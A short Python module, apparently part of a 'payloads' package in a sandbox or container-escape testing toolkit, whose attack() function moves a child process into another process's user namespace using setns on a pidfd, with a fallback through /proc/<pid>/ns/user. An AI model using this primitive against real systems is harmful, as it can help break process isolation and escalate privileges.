"""Move into the namespaces of another process."""

import os

from payloads.kernel import CLONE_NEWUSER, in_child, syscall


def attack(alias, pid):
    def enter():
        try:
            syscall("setns", syscall("pidfd_open", pid, 0), CLONE_NEWUSER)
        except OSError:
            syscall("setns", os.open(f"/proc/{pid}/ns/user", os.O_RDONLY), CLONE_NEWUSER)

    return in_child(alias, enter)
